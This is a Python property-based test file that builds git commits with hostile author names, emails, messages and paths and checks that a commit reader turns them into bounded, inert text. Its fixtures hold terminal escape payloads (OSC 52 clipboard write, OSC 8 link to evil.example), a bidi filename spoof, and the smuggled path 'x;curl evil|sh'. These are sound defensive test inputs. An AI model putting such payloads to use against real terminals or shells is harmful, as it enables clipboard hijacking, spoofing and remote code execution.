"""Hostile text in commits, property-tested on real repositories: whatever bytes a subject, an
author name, an email or a path holds (every C0/C1 control, ESC sequences such as OSC 52, bidi
overrides, Rich markup, invalid UTF-8, a declared encoding that lies), read_commits never raises
and its Commit objects hold bounded, inert text.

The commits are written as loose objects by this file (zlib + SHA-1, what ``git hash-object
--literally`` does, without a process per object), so each example costs one read_commits."""

from __future__ import annotations

import hashlib
import tempfile
import unicodedata
import zlib
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest

hypothesis = pytest.importorskip("hypothesis")
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from test_git import NOW, init_repo  # noqa: E402
from warroom.settings import GitSettings  # noqa: E402
from warroom.sources.git import SUBJECT_MAX, GitProblem, GitSnapshot, read_commits  # noqa: E402
from warroom.sources.git.commits import FUNCTION_NAME  # noqa: E402
from warroom.sources.git.output import Fields, Rows  # noqa: E402

# Pieces an attacker would use, mixed with arbitrary bytes.
FRAGMENTS = [
    b"\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07",  # OSC 52: write the clipboard
    b"\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    b"\x1b[2J\x1b[H",  # clear the screen
    b"\x1b[31m",
    b"\x1bP+q544e\x1b\\",  # DCS
    b"\x9b31m",  # an 8-bit CSI, invalid UTF-8
    "\u009b31m".encode(),  # the same C1 control, valid UTF-8
    "\u202egnp.exe\u202c".encode(),  # right-to-left override
    "\u2066\u2069\u200f\u061c".encode(),
    b"[bold red]x[/bold red]",
    b"[link=https://evil.example]y[/link]",
    b"\r\n\t\x00\x07\x08\x7f",
    b"\xff\xfe\xc3\x28\xed\xa0\x80",  # invalid UTF-8, an encoded surrogate
    "\ufeff\ufffe\U0010ffff".encode(),
    b"deploy",
]
BIDI = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}


def hostile(max_pieces: int, exclude: bytes = b"") -> st.SearchStrategy[bytes]:
    piece = st.one_of(st.binary(max_size=24), st.sampled_from(FRAGMENTS))
    data = st.lists(piece, max_size=max_pieces).map(b"".join)
    if exclude:
        data = data.map(lambda b: bytes(c for c in b if c not in exclude))
    return data


COMMIT = st.fixed_dictionaries(
    {
        # An ident cannot hold a newline or angle brackets (they end its parts); anything else goes.
        "author": hostile(8, exclude=b"\n<>"),
        "email": hostile(4, exclude=b"\n<>"),
        "message": hostile(12),
        "encoding": st.sampled_from([b"", b"ISO-8859-1", b"KOI8-R", b"UTF-16", b"x-no-such-charset"]),
        # A file name in the tree (no NUL or slash; git refuses ".", ".." and ".git" itself).
        "path": st.one_of(
            st.sampled_from([b"send-sms", b"_shared", b"utils", b"x;curl evil|sh"]),
            hostile(4, exclude=b"\0/").map(lambda b: b"f" if b in (b"", b".", b"..", b".git") else b),
        ),
    }
)


def put(objects: Path, kind: bytes, body: bytes) -> str:
    """Write one loose object, as git would; its sha."""
    data = kind + b" %d\0" % len(body) + body
    sha = hashlib.sha1(data).hexdigest()
    path = objects / sha[:2] / sha[2:]
    if not path.exists():
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(zlib.compress(data, 1))
    return sha


def tree(objects: Path, entries: dict[bytes, tuple[bytes, str]]) -> str:
    """A tree object from {name: (mode, sha)}, sorted the way git sorts them."""

    def key(name: bytes) -> bytes:
        return name + b"/" if entries[name][0] == b"40000" else name

    body = b"".join(
        entries[n][0] + b" " + n + b"\0" + bytes.fromhex(entries[n][1]) for n in sorted(entries, key=key)
    )
    return put(objects, b"tree", body)


def write_history(repo: Path, commits: list[dict[str, bytes]]) -> list[str]:
    """One commit per entry, each adding its hostile file and a function folder named after it."""
    objects = repo / ".git" / "objects"
    parent = ""
    shas = []
    for i, c in enumerate(commits):
        blob = put(objects, b"blob", b"%d\n" % i)  # every commit changes both files
        folder = tree(objects, {b"index.ts": (b"100644", blob)})
        functions = tree(objects, {c["path"]: (b"40000", folder)})
        supabase = tree(objects, {b"functions": (b"40000", functions)})
        root = {b"supabase": (b"40000", supabase)}
        if c["path"] != b"supabase":
            root[c["path"]] = (b"100644", blob)
        when = b"%d +0000" % int((NOW - timedelta(minutes=len(commits) - i)).timestamp())
        who = c["author"] + b" <" + c["email"] + b"> " + when
        body = b"tree " + tree(objects, root).encode() + b"\n"
        if parent:
            body += b"parent " + parent.encode() + b"\n"
        body += b"author " + who + b"\ncommitter " + who + b"\n"
        if c["encoding"]:
            body += b"encoding " + c["encoding"] + b"\n"
        parent = put(objects, b"commit", body + b"\n" + c["message"])
        shas.append(parent)
    (repo / ".git" / "refs" / "heads" / "main").write_text(parent + "\n")
    return shas[::-1]


def inert(text: str, bound: int) -> None:
    assert len(text) <= bound, (len(text), text)
    for ch in text:
        assert unicodedata.category(ch) != "Cc", repr(text)
        assert ord(ch) not in BIDI, repr(text)


@pytest.fixture(scope="module")
def repo() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="warroom-hostile-") as tmp:
        yield init_repo(Path(tmp) / "r")


@settings(
    max_examples=30,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(commits=st.lists(COMMIT, min_size=1, max_size=4))
def test_hostile_commits_come_out_as_bounded_inert_text(repo: Path, commits: list[dict[str, bytes]]) -> None:
    shas = write_history(repo, commits)
    got = read_commits(GitSettings(repo=repo, count=10), now=NOW)
    hypothesis.event(type(got).__name__)
    if isinstance(got, GitProblem):  # git may refuse a commit; the pane then says so in one line
        inert(got.message, 1000)
        return
    assert isinstance(got, GitSnapshot)
    assert [c.sha for c in got.commits] == shas
    for c in got.commits:
        inert(c.subject, SUBJECT_MAX)
        inert(c.author, 80)
        inert(c.author_email, 120)
        for path in c.paths:
            inert(path, 300)
        for name in c.functions:
            inert(name, 300)
            assert FUNCTION_NAME.fullmatch(name)
        assert c.paths_known and len(c.paths) == c.paths_total
        assert c.functions or c.touches_shared_functions  # each commit adds a folder there


@settings(max_examples=200, deadline=None, database=None, derandomize=True)
@given(
    records=st.lists(
        st.lists(st.binary(max_size=40).map(lambda b: b.replace(b"\0", b"")), max_size=5), max_size=5
    ),
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=12),
)
def test_the_stream_reader_does_not_depend_on_how_the_pipe_cuts_the_output(
    records: list[list[bytes]], cuts: list[int]
) -> None:
    marker = b"WR" + b"0123456789abcdef" * 2
    out = b"".join(b"\0" + marker + b"\0" + b"\0".join(fields) + b"\0" for fields in records)

    def read(chunks: list[bytes]) -> list[list[bytes]]:
        rows = Rows(10)
        stream = Fields(marker, rows)
        for chunk in chunks:
            stream.feed(chunk)
        stream.close()
        return rows.rows

    points = sorted({min(c, len(out)) for c in cuts})
    chunks = [out[a:b] for a, b in zip([0, *points], [*points, len(out)], strict=True)]
    whole = read([out])
    assert read(chunks) == whole
    # Each record's fields, then the empty field git's -z terminator leaves.
    assert [row[: len(fields)] for row, fields in zip(whole, records, strict=True)] == records
